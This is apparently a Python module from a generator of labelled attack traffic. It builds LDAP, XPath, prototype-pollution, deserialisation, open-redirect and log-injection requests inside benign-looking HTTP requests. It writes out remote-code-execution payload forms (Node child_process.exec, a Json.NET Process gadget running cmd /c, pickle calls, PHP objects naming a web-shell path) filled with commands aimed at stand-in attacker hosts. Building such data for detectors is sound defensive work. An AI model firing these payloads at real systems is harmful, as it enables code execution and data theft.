"""The attack families added after the first ten: LDAP and XPath injection, prototype pollution,
insecure deserialisation, open redirect, and log injection (a CRLF technique). They use the placement
and rendering of attacks.Attacks, so their requests have the same shapes and encodings as the others.
"""
import base64
import json
import string
from urllib.parse import quote

from . import payloads_deserialization as D
from .draft import Draft, FORM_TYPES, JSON_TYPES, XML_TYPES
from .fill import substitute
from .payloads_hosts import ATTACKER_HOSTS
from .payloads_ldap import LDAP, LDAP_ATTRIBUTES, LDAP_ENDPOINTS, LDAP_PARAMS
from .payloads_log import LOG_INJECTION
from .payloads_prototype import PROTO_FIELDS, PROTO_GADGETS, PROTO_JSON, PROTO_NAMES, PROTO_PLAIN_VALUES, PROTO_PROPS
from .payloads_redirect import OPEN_REDIRECT, REDIRECT_ENDPOINTS, REDIRECT_NAMES
from .payloads_xpath import XPATH, XPATH_NODES

NEW_FAMILIES = ("ldap", "xpath", "prototype_pollution", "deserialization", "open_redirect")
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


class BreadthAttacks:
    def __init__(self, pools, attacks):
        half = pools.half
        self.a = attacks
        self.v = attacks.v
        self.benign = attacks.benign
        self.hosts = half("breadth_attacker_hosts", ATTACKER_HOSTS)
        self.ldap = half("ldap_templates", LDAP)
        self.ldap_attributes = half("ldap_attributes", LDAP_ATTRIBUTES)
        self.ldap_endpoints = half("ldap_endpoints", LDAP_ENDPOINTS)
        self.ldap_params = half("ldap_params", LDAP_PARAMS)
        self.xpath = half("xpath_templates", XPATH)
        self.xpath_nodes = half("xpath_nodes", XPATH_NODES)
        self.proto_names = half("proto_name_templates", PROTO_NAMES)
        self.proto_json = half("proto_json_templates", PROTO_JSON)
        self.proto_props = half("proto_props", PROTO_PROPS)
        self.proto_plain_values = half("proto_plain_values", PROTO_PLAIN_VALUES)
        self.proto_gadgets = half("proto_gadgets", PROTO_GADGETS)
        self.proto_fields = half("proto_fields", PROTO_FIELDS)
        self.deserialization = half("deserialization_templates", D.DESERIALIZATION)
        self.java_gadgets = half("java_gadgets", D.JAVA_GADGETS)
        self.php_gadgets = half("php_gadgets", D.PHP_GADGETS)
        self.dotnet_gadgets = half("dotnet_gadgets", D.DOTNET_GADGETS)
        self.dotnet_assemblies = half("dotnet_assemblies", D.DOTNET_ASSEMBLIES)
        self.jndi_sinks = half("jndi_sinks", D.JNDI_SINKS)
        self.serialized_params = half("serialized_params", D.SERIALIZED_PARAMS)
        self.pickle_calls = half("pickle_calls", D.PICKLE_CALLS)
        self.redirects = half("open_redirect_templates", OPEN_REDIRECT)
        self.redirect_names = half("open_redirect_names", REDIRECT_NAMES)
        self.redirect_endpoints = half("open_redirect_endpoints", REDIRECT_ENDPOINTS)
        self.log_templates = half("log_injection_templates", LOG_INJECTION)

    def builders(self) -> dict:
        return {"ldap": self.ldap_injection, "xpath": self.xpath_injection, "prototype_pollution": self.prototype_pollution,
                "deserialization": self.insecure_deserialization, "open_redirect": self.open_redirect}

    # -- filling -------------------------------------------------------------------------------------
    def attacker_host(self, val, ident=None) -> str:
        ident = ident or _ident(val.rng)
        return substitute(val.pick(self.hosts), {"id": ident})

    def _values(self, val) -> dict:
        rng = val.rng
        ident = _ident(rng)
        host = self.attacker_host(val, ident)
        word = val.pick(self.a.filler_words)
        cmd = substitute(val.pick(self.a.unix_commands), {"host": host, "w": word})
        letters = string.ascii_lowercase + string.digits
        return {
            "host": host, "id": ident, "w": word, "n": rng.randint(1, 30), "n2": rng.randint(31, 99), "cmd": cmd,
            "cmd0": cmd.split(" ")[0], "arg": cmd.split(" ", 1)[1] if " " in cmd else "-a",
            "user": val.pick(["admin", "administrator", "root", "*", val.username(), word]),
            "attr": val.pick(self.ldap_attributes), "attr2": val.pick(self.ldap_attributes), "c": rng.choice(letters), "c2": rng.choice(letters),
            "node": val.pick(self.xpath_nodes), "trusted": val.pick(self.v.public_hosts),
            "ip": f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
            "b64": base64.b64encode(val.pick(["<script>alert(1)</script>", "<svg onload=alert(1)>", "<script>location='//x'</script>"]).encode()).decode(),
        }

    def _template(self, val, templates, extra=None):
        """A technique drawn evenly, then one of its templates in this half."""
        techniques = sorted({technique for technique, _ in templates})
        technique = val.pick(techniques)
        template = val.pick([text for name, text in templates if name == technique])
        pre_encoded = template.startswith("=")
        values = self._values(val)
        if extra:
            values.update(extra(val, values))
        return technique, substitute(template[1:] if pre_encoded else template, values), pre_encoded

    # -- placement helpers ---------------------------------------------------------------------------
    def _named_slot(self, draft, names):
        """A value slot whose field name is one of names (a login's user or password field), or None."""
        for slot in draft.value_slots():
            where, key = slot
            if where in ("query", "form"):
                name = (draft.query if where == "query" else draft.form)[key][0]
            elif where == "json":
                name = key[-1]
            else:
                continue
            if name in names:
                return slot
        return None

    def _login_slot(self, val, draft):
        fields = self.benign.login_user_fields if val.rng.random() < 0.7 else self.benign.login_password_fields
        return self._named_slot(draft, fields) or self._named_slot(draft, self.benign.login_user_fields + self.benign.login_password_fields)

    def _login(self, val, family, technique, payload, pre_encoded):
        draft = self.benign.build_kind(val, "login")
        slot = self._login_slot(val, draft)
        location = self.a._into_value(val, draft, payload, pre_encoded, slot=slot, append=False)
        return self.a._render(val, draft, family, technique, location, pre_encoded)

    def _generic(self, val, family, technique, payload, pre_encoded, kinds, append=False):
        _, draft = self.a._host(val, kinds)
        location = self.a._into_value(val, draft, payload, pre_encoded, append=append)
        return self.a._render(val, draft, family, technique, location, pre_encoded)

    # -- LDAP ------------------------------------------------------------------------------------------
    def ldap_injection(self, val):
        rng = val.rng
        technique, payload, pre_encoded = self._template(val, self.ldap)
        roll = rng.random()
        if roll < 0.45:
            return self._login(val, "ldap", technique, payload, pre_encoded)
        if roll < 0.8:
            # A directory lookup: the parameter goes straight into a search filter.
            segments = val.pick(self.ldap_endpoints).split("/")[1:]
            pairs = [(val.pick(self.ldap_params), "")]
            if rng.random() < 0.4:
                pairs.append((rng.choice(["attrs", "fields", "limit", "ou", "scope"]), rng.choice(["cn,mail", "20", "people", "sub", "uid,cn,mail"])))
            draft = Draft("GET", segments, pairs)
            if rng.random() < 0.3:
                draft = Draft("POST", segments, form=pairs, content_type=val.pick(FORM_TYPES))
            elif rng.random() < 0.2:
                draft = Draft("POST", segments, json_body=dict(pairs), content_type=val.pick(JSON_TYPES))
                location = self.a._into_value(val, draft, payload, pre_encoded, slot=("json", (pairs[0][0],)), append=False)
                return self.a._render(val, draft, "ldap", technique, location, pre_encoded)
            location = self.a._into_value(val, draft, payload, pre_encoded, slot=("form" if draft.form else "query", 0), append=False)
            return self.a._render(val, draft, "ldap", technique, location, pre_encoded)
        return self._generic(val, "ldap", technique, payload, pre_encoded, ("search", "listing", "form", "rest_write", "xml", "upload"))

    # -- XPath -----------------------------------------------------------------------------------------
    def xpath_injection(self, val):
        rng = val.rng
        technique, payload, pre_encoded = self._template(val, self.xpath)
        roll = rng.random()
        if roll < 0.35:
            return self._login(val, "xpath", technique, payload, pre_encoded)
        if roll < 0.55:
            # An XML API: the element's text is looked up with an XPath query on the server.
            draft = self.benign.build_kind(val, "xml")
            location = self.a._into_value(val, draft, payload, pre_encoded, append=False)
            return self.a._render(val, draft, "xpath", technique, location, pre_encoded)
        return self._generic(val, "xpath", technique, payload, pre_encoded, ("search", "listing", "rest_read", "form", "rest_write", "graphql_ops"))

    # -- prototype pollution ---------------------------------------------------------------------------
    def _proto_property(self, val, values):
        """(property, value, technique): a plain flag, or a known gadget."""
        if val.rng.random() < 0.45:
            prop, value = val.pick(self.proto_gadgets)
            return prop, substitute(value, values), "gadget"
        return val.pick(self.proto_props), substitute(val.pick(self.proto_plain_values), values), None

    def prototype_pollution(self, val):
        rng = val.rng
        values = self._values(val)
        prop, value, gadget = self._proto_property(val, values)
        field = val.pick(self.proto_fields)
        roll = rng.random()
        if roll < 0.45:
            technique, name = val.pick(self.proto_names)
            name = substitute(name, {"prop": prop, "field": field})
            _, draft = self.a._host(val, ("search", "listing", "rest_read", "form", "login", "page", "tracking", "display_name"))
            where = "form" if draft.form is not None and rng.random() < 0.6 else "query"
            pairs = draft.form if where == "form" else draft.query
            # A fresh benign draft has no per-slot styles yet, so inserting shifts nothing that is keyed by index.
            index = rng.randint(0, len(pairs))
            pairs.insert(index, (name, value))
            if " " not in name and rng.random() < 0.6:
                draft.raw_names.add((where, index))
            draft.styles[(where, index)] = None
            return self.a._render(val, draft, "prototype_pollution", gadget or technique, f"names:{where}", False)
        if roll < 0.85:
            technique, template = val.pick(self.proto_json)
            literal = json.dumps(value if gadget else {"true": True, "1": 1, "0": 0, "[]": []}.get(value, value))
            document = json.loads(substitute(template, {"prop": prop, "field": field, "value": literal}))
            _, host = self.a._host(val, ("rest_write", "login", "form", "graphql_ops", "secret", "display_name"))
            base = host.json_body if isinstance(host.json_body, dict) else {name: text for name, text in (host.form or host.query or [])}
            if isinstance(document, dict):
                merged = dict(base)
                merged.update(document)
                if rng.random() < 0.5:
                    merged = dict(document, **base)
                body = merged
            else:
                body = document
            draft = Draft(rng.choice(["POST", "PUT", "PATCH"]), host.segments, json_body=body, content_type=val.pick(JSON_TYPES))
            return self.a._render(val, draft, "prototype_pollution", gadget or technique, "json", False)
        # JSON text inside one value (a filter or settings parameter parsed with JSON.parse and merged).
        document = {"__proto__": {prop: value}} if rng.random() < 0.6 else {"constructor": {"prototype": {prop: value}}}
        payload = json.dumps(document, separators=(",", ":") if rng.random() < 0.5 else (", ", ": "))
        _, draft = self.a._host(val, ("listing", "search", "rest_read", "form", "rest_write"))
        draft.query.append((rng.choice(["filter", "options", "settings", "q", "config", "state", "prefs"]), ""))
        location = self.a._into_value(val, draft, payload, False, slot=("query", len(draft.query) - 1), append=False)
        return self.a._render(val, draft, "prototype_pollution", gadget or "json_value", location, False)

    # -- deserialisation -------------------------------------------------------------------------------
    def _serialized_values(self, val, values):
        rng = val.rng
        cmd = values["cmd"]
        java = D.java_stream(rng, val.pick(self.java_gadgets), cmd)
        php_props = [(val.pick(["cmd", "data", "handler", "events", "path", "callback", "role", "isAdmin", "file"]), rng.choice([cmd, values["w"], 1])),
                     (val.pick(["buffer", "logger", "socket", "formatter", "event", "func", "filename"]), rng.choice([f"http://{values['host']}/", "system", "assert", "/var/www/html/shell.php"]))]
        php = D.php_object(val.pick(self.php_gadgets), php_props[:rng.randint(1, 2)])
        module, function = val.pick(self.pickle_calls)
        pickle = D.pickle_bytes(rng, module, function, cmd)
        dotnet_type, dotnet_asm = val.pick(self.dotnet_gadgets), val.pick(self.dotnet_assemblies)
        jsonnet = {"$type": f"{dotnet_type}, {dotnet_asm}", "MethodName": "Start",
                   "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", f"/c {cmd}"]},
                   "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}
        node = json.dumps({values["w"]: f"_$$ND_FUNC$$_function(){{require('child_process').exec('{cmd}')}}()"})
        return {
            "java_b64": D.b64(java), "java_hex": java.hex(), "java_gzip_b64": D.gzip_b64(java), "java_pct": D.percent(java),
            "java_b64_lines": "\n".join(D.b64(java)[i:i + 76] for i in range(0, len(D.b64(java)), 76)),
            "pickle_hex": pickle.hex(), "pickle_pct": D.percent(pickle), "java_b64_url": D.b64(java).replace("+", "-").replace("/", "_").rstrip("="),
            "php_obj": php, "php_obj_plus": php.replace("O:", "O:+", 1), "php_b64": D.b64(php.encode()),
            "wlen": len(values["w"]), "alen": rng.randint(40, 200), "dotnet_b64": D.b64(D.dotnet_stream(rng, dotnet_type, dotnet_asm)),
            "dotnet_type": dotnet_type, "dotnet_asm": dotnet_asm, "jsonnet": json.dumps(jsonnet), "sink": val.pick(self.jndi_sinks),
            "pickle_b64": D.b64(pickle), "pickle_text": f"c{module}\n{function}\n(S'{cmd}'\ntR.", "node_b64": D.b64(node.encode()),
        }

    def insecure_deserialization(self, val):
        rng = val.rng
        technique, payload, pre_encoded = self._template(val, self.deserialization, self._serialized_values)
        is_json = payload[:1] in ("{", "[")
        if technique == "xml" or (technique == "yaml" and rng.random() < 0.6) or (is_json and rng.random() < 0.55):
            content_type = (val.pick(XML_TYPES) if technique == "xml" else val.pick(D.YAML_TYPES) if technique == "yaml" else val.pick(JSON_TYPES))
            base = self.benign.build_kind(val, rng.choice(["rest_write", "xml", "upload", "graphql_ops"]))
            if is_json and rng.random() < 0.4 and isinstance(base.json_body, dict):
                # A polymorphic object as one field of an ordinary document.
                body = dict(base.json_body)
                body[val.pick(self.serialized_params)] = json.loads(payload)
                draft = Draft(base.method if base.method != "DELETE" else "POST", base.segments, json_body=body, content_type=content_type)
                return self.a._render(val, draft, "deserialization", technique, "json", False)
            draft = Draft(rng.choice(["POST", "PUT"]), base.segments, text_body=payload, content_type=content_type)
            return self.a._render(val, draft, "deserialization", technique, "body", False)
        roll = rng.random()
        if roll < 0.2 or technique == "yaml":
            # An uploaded file: a saved session, a config, an export.
            extension = {"java": "ser", "php": "dat", "python": "pkl", "yaml": "yml", "node": "json", "dotnet": "bin"}.get(technique, "dat")
            parts = [{"name": val.pick(["file", "upload", "import", "config", "backup"]), "value": payload,
                      "filename": f"{val.pick(self.a.filler_words)}.{extension}", "type": rng.choice(["application/octet-stream", "text/plain", "application/x-yaml"])}]
            if rng.random() < 0.5:
                parts.insert(0, {"name": "description", "value": val.sentence()})
            draft = Draft("POST", val.pick(self.benign.upload_endpoints).format(p=rng.choice(self.v.api_prefixes + [""])).split("/")[1:], multipart=parts)
            return self.a._render(val, draft, "deserialization", technique, f"multipart:{parts[-1]['name']}", False)
        if roll < 0.7:
            # A serialised blob in a parameter the application decodes (a state, a remember-me, a cart).
            _, draft = self.a._host(val, ("page", "rest_read", "form", "login", "token", "listing"))
            name = val.pick(self.serialized_params)
            where = "form" if draft.form is not None and rng.random() < 0.6 else "query"
            pairs = draft.form if where == "form" else draft.query
            pairs.append((name, ""))
            location = self.a._into_value(val, draft, payload, pre_encoded, slot=(where, len(pairs) - 1), append=False)
            return self.a._render(val, draft, "deserialization", technique, location, pre_encoded)
        return self._generic(val, "deserialization", technique, payload, pre_encoded, ("token", "rest_write", "form", "login", "secret"))

    # -- open redirect ---------------------------------------------------------------------------------
    def open_redirect(self, val):
        rng = val.rng
        technique, payload, pre_encoded = self._template(val, self.redirects)
        name = val.pick(self.redirect_names)
        roll = rng.random()
        if roll < 0.35:
            draft = self.benign.build_kind(val, "redirect")
            if rng.random() < 0.5:
                draft.query[0] = (name, draft.query[0][1])
            slot = ("query", 0)
        elif roll < 0.5:
            draft = self.benign.build_kind(val, "login")
            pairs = draft.form if draft.form is not None else None
            if pairs is None:
                draft.json_body[name] = ""
                slot = ("json", (name,))
            else:
                pairs.append((name, ""))
                slot = ("form", len(pairs) - 1)
        elif roll < 0.65:
            pairs = [("client_id", val.hex_token(rng.choice((16, 20, 32)))), ("response_type", rng.choice(["code", "token", "code id_token"])),
                     ("redirect_uri", ""), ("scope", rng.choice(["openid", "openid profile email", "read", "user:email"])), ("state", val.hex_token(16))]
            rng.shuffle(pairs)
            draft = Draft("GET", rng.choice([["oauth", "authorize"], ["oauth2", "auth"], ["connect", "authorize"], ["authorize"]]), pairs)
            slot = ("query", [p[0] for p in pairs].index("redirect_uri"))
        elif roll < 0.88:
            pairs = [(name, "")]
            if rng.random() < 0.4:
                pairs.append((rng.choice(["ref", "src", "id", "campaign"]), val.slug(1)))
            draft = Draft("GET", val.pick(self.redirect_endpoints).split("/")[1:], pairs)
            slot = ("query", 0)
        elif roll < 0.95:
            # In the path: /redirect/<target>, sent as is.
            draft = Draft("GET", [rng.choice(["redirect", "out", "go", "r", "link", "exit"]), payload])
            draft.styles[("segment", 1)] = None
            if pre_encoded:
                draft.raw_segments.add(1)
            return self.a._render(val, draft, "open_redirect", technique, "path:1", pre_encoded)
        else:
            draft = Draft("POST", rng.choice([["api", "auth", "logout"], ["api", "session"], ["auth", "sso"]]), json_body={name: ""},
                          content_type=val.pick(JSON_TYPES))
            slot = ("json", (name,))
        location = self.a._into_value(val, draft, payload, pre_encoded, slot=slot, append=False)
        return self.a._render(val, draft, "open_redirect", technique, location, pre_encoded)

    # -- log injection (CRLF family) -----------------------------------------------------------------
    def log_injection(self, val):
        rng = val.rng
        template = val.pick(self.log_templates)
        pre_encoded = template.startswith("=")
        year, month, day = rng.randint(2019, 2026), rng.randint(1, 12), rng.randint(1, 28)
        hour, minute, second = rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59)
        date = f"{year}-{month:02d}-{day:02d} {hour:02d}:{minute:02d}:{second:02d}" + rng.choice(["", f",{rng.randint(100, 999)}", "Z"])
        clf = f"{day:02d}/{MONTHS[month - 1]}/{year}:{hour:02d}:{minute:02d}:{second:02d} +0000"
        base = rng.choice([val.username(), "guest", val.search_text(), val.pick(self.a.filler_words), val.email()])
        values = self._values(val)
        values.update({"date": date, "clf": clf, "syslog": f"{MONTHS[month - 1]} {day:2d} {hour:02d}:{minute:02d}:{second:02d}", "base": base,
                       "base_enc": _encode(base), "date_enc": _encode(date), "clf_enc": _encode(clf)})
        payload = substitute(template[1:] if pre_encoded else template, values)
        roll = rng.random()
        if roll < 0.5:
            return self._login(val, "crlf", "log", payload, pre_encoded)
        if roll < 0.75:
            draft = self.benign.build_kind(val, "search")
            location = self.a._into_value(val, draft, payload, pre_encoded, slot=("query", 0) if draft.query else None, append=False)
            return self.a._render(val, draft, "crlf", "log", location, pre_encoded)
        return self._generic(val, "crlf", "log", payload, pre_encoded, ("form", "rest_write", "listing", "secret", "display_name"))


def _ident(rng) -> str:
    """An interaction id as out-of-band services hand them out: lowercase letters and digits."""
    return "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(rng.randint(12, 33)))


def _encode(text: str) -> str:
    return quote(text, safe="")
